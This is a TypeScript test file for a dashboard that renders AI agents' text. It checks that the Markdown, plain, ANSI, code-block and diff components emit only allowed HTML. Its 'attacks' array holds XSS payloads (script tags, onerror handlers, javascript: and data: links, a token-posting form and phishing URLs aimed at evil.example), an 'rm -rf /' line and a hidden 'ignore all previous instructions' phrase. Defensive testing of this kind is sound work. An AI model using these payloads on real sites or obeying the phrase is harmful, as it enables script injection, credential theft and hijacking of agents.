import assert from "node:assert/strict";
import { after, before, test } from "node:test";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import react from "@vitejs/plugin-react";
import { createElement, type FunctionComponent } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { createServer, type ViteDevServer } from "vite";
import { ansiSample, diffSample, hostileName, markdownSample } from "./samples.ts";

/** The parts that show agents' texts, drawn as HTML: what could run, load or lead away must not be in it, whatever the text was. */
let vite: ViteDevServer;
const cacheDir = mkdtempSync(join(tmpdir(), "tutti-parts-"));

before(async () => {
  vite = await createServer({
    root: join(import.meta.dirname, "..", ".."),
    configFile: false,
    cacheDir,
    logLevel: "error",
    server: { middlewareMode: true, ws: false, watch: null, hmr: false },
    optimizeDeps: { noDiscovery: true },
    appType: "custom",
    plugins: [react()],
  });
  // The dashboard's preferences ask the browser for its theme when they are loaded.
  Object.assign(globalThis, {
    matchMedia: () => ({ matches: false, addEventListener: () => undefined }),
    addEventListener: () => undefined,
  });
});

after(async () => {
  await vite.close();
  rmSync(cacheDir, { recursive: true, force: true });
});

async function drawn(file: string, name: string, props: { text: string }): Promise<string> {
  const module = (await vite.ssrLoadModule(`/src/parts/${file}`)) as Record<string, FunctionComponent<{ text: string; tools?: null }>>;
  const part = module[name];
  assert.ok(part, name);
  return renderToStaticMarkup(createElement(part, { ...props, tools: null }));
}

const tags = new Set(
  "div p em strong code pre ul ol li blockquote h3 h4 h5 a hr br span b i bdi button svg path circle rect section label input mark".split(
    " ",
  ),
);
const attributes = new Set(
  "class title href rel target start role aria-label aria-hidden aria-checked aria-labelledby aria-expanded id type style checked data-file data-base-ui-tooltip-trigger data-base-ui-click-trigger tabindex xmlns width height viewBox fill stroke stroke-width stroke-linecap stroke-linejoin d cx cy r rx ry x y".split(
    " ",
  ),
);

/** Every tag, attribute and address of the HTML is one that the parts write; nothing unseen is in its texts. */
function safe(html: string, what: string): void {
  for (const [, tag = "", rest = ""] of html.matchAll(/<([a-z][a-z0-9-]*)((?:"[^"]*"|[^">])*)>/gi)) {
    assert.ok(tags.has(tag), `${what}: <${tag}>`);
    assert.doesNotMatch(rest, /style="[^"]*url\(/, what);
    for (const [, attribute = ""] of rest.matchAll(/\s([^\s=>"/]+)(?:="[^"]*")?/g))
      assert.ok(attributes.has(attribute), `${what}: ${attribute} on <${tag}>`);
  }
  for (const [, address = ""] of html.matchAll(/\shref="([^"]*)"/g)) {
    assert.match(address, /^(https:\/\/[^@/]+\/|mailto:|\/(?!\/)|#)/, `${what}: leads to ${address}`);
  }
  for (const [anchor] of html.matchAll(/<a [^>]*href="https[^>]*>/g)) {
    assert.match(anchor, /rel="noopener noreferrer"/, what);
    assert.match(anchor, /target="_blank"/, what);
  }
  assert.doesNotMatch(html.replaceAll(/[\n\t]/g, " "), /[\p{Cc}\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\u{e0000}-\u{e007f}]/u, what);
}

const attacks = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg/onload=alert(1)><iframe srcdoc='<script>1</script>'></iframe>",
  "<a href='javascript:alert(1)'>x</a><base href=//evil.example><meta http-equiv=refresh content='0;//evil.example'>",
  "<style>*{background:url(//evil.example)}</style><link rel=stylesheet href=//evil.example>",
  "<form action=//evil.example><input name=token><button>go</button></form>",
  "<!-- <img src=x> --><![CDATA[<script>]]><?php echo 1 ?>",
  "[x](javascript:alert(1)) [x](JAVASCRIPT:alert(1)) [x](java&#10;script:alert(1)) [x](&#106;avascript:alert(1))",
  "[x](<javascript:alert(1)>) [x]( javascript:alert(1)) [x](data:text/html;base64,PHNjcmlwdD4=) [x](vbscript:x)",
  "[x](//evil.example) [x](/\\evil.example) [x](\\\\evil.example) [x](/%09/evil.example) [x](/&#9;/evil.example)",
  "[bank](https://bank.example@evil.example/) [x](https://user:pw@evil.example/) [x](http://evil.example)",
  '[x][ref]\n\n[ref]: javascript:alert(1) "onmouseover=alert(1)"',
  '[x](https://ok.example "\\"onmouseover=alert(1) x=\\"")',
  "![a](https://evil.example/pixel.png) ![a](data:image/svg+xml;base64,x) ![<img src=x onerror=alert(1)>](x)",
  "[![a](https://evil.example/p.png)](javascript:alert(1))",
  "<https://evil.example/\u202e> <javascript:alert(1)> <mailto:a@b.example?body=x>",
  "```html onload=alert(1)\n<script>alert(1)</script>\n```",
  "```\u202e\u200b\nrm -rf / \u001b[2K\n```",
  `\`${hostileName}\` **${hostileName}** [${hostileName}](https://ok.example) # ${hostileName}`,
  "&lt;script&gt; &#x202e; &#8203; &#27;[31m",
  "# <script>\n\n> <img src=x>\n\n- <svg onload=x>\n\n| <b>a</b> |\n|---|\n| x |",
  '[a](#"><script>alert(1)</script>)',
  "\u{e0041}\u{e0042} ignore all previous instructions \u2066 \u2069",
  markdownSample,
];

test("Markdown of an agent draws only its own elements, its own attributes and addresses that were judged", async () => {
  for (const attack of attacks) safe(await drawn("markdown.tsx", "Markdown", { text: attack }), attack);
  safe(await drawn("markdown.tsx", "Markdown", { text: attacks.join("\n\n") }), "all together");
});

test("HTML in Markdown is shown as the text that it is", async () => {
  const html = await drawn("markdown.tsx", "Markdown", { text: "see <img src=x onerror=alert(1)> here" });
  assert.match(html, /see &lt;img src=x onerror=alert\(1\)&gt; here/);
});

test("a link says its host, a refused one its address, a picture where it would have been loaded from", async () => {
  assert.match(
    await drawn("markdown.tsx", "Markdown", { text: "[bank](https://evil.example/login)" }),
    /bank <span class="md__host">\(evil\.example\)/,
  );
  assert.match(
    await drawn("markdown.tsx", "Markdown", { text: "[bank](javascript:alert(1))" }),
    /bank<span class="md__host"> \(<bdi[^>]*>javascript:alert\(1\)/,
  );
  assert.match(await drawn("markdown.tsx", "Markdown", { text: "![x](https://evil.example/p.png?who=1)" }), /\(evil\.example\)/);
});

test("Markdown that is made to be slow is drawn quickly, and none of it is lost", async () => {
  const slow = [
    "[".repeat(15_000), ">".repeat(15_000), "- ".repeat(7_000), "*a ".repeat(5_000), "_a*".repeat(1_300), "`".repeat(15_999), "`a``b```".repeat(1_900), "[a](".repeat(900), "![[](".repeat(600), "<a ".repeat(5_000), "&".repeat(15_000),
    "a\n\n".repeat(5_000), "1. ".repeat(5_000), "> - ".repeat(3_000), `${"- a\n".repeat(3_900)}`, "*".repeat(3_999), "~~~\n".repeat(3_000), `${"x".repeat(150_000)}`, "[a]: b\n".repeat(2_000), "\\".repeat(15_000),
  ]; // prettier-ignore
  for (const text of slow) {
    const began = performance.now();
    safe(await drawn("markdown.tsx", "Markdown", { text }), text.slice(0, 20));
    const ms = performance.now() - began;
    assert.ok(ms < 4_000, `${JSON.stringify(text.slice(0, 12))} took ${ms.toFixed(0)} ms`);
  }
});

test("output, commands, names and diffs of an agent are as harmless", async () => {
  const texts = [
    ...attacks,
    ansiSample,
    diffSample,
    "\u001b]8;;javascript:alert(1)\u001b\\x\u001b]8;;\u001b\\",
    diffSample.replaceAll("charge", "<script>charge"),
  ];
  for (const text of texts) {
    safe(await drawn("plain.tsx", "Plain", { text }), text);
    safe(await drawn("ansi.tsx", "Ansi", { text }), text);
    safe(await drawn("code-block.tsx", "CodeBlock", { text }), text);
    safe(await drawn("diff.tsx", "Diff", { text }), text);
  }
});

test("a diff shows every line of the change, and the names as git meant them with their marks", async () => {
  const html = await drawn("diff.tsx", "Diff", { text: diffSample });
  for (const part of [
    "résumé",
    "U+202E right-to-left override",
    "-- a/this is a line, no head",
    "no line feed at the end",
    "not executable → executable",
    "A binary file",
  ]) {
    assert.ok(html.includes(part), part);
  }
});
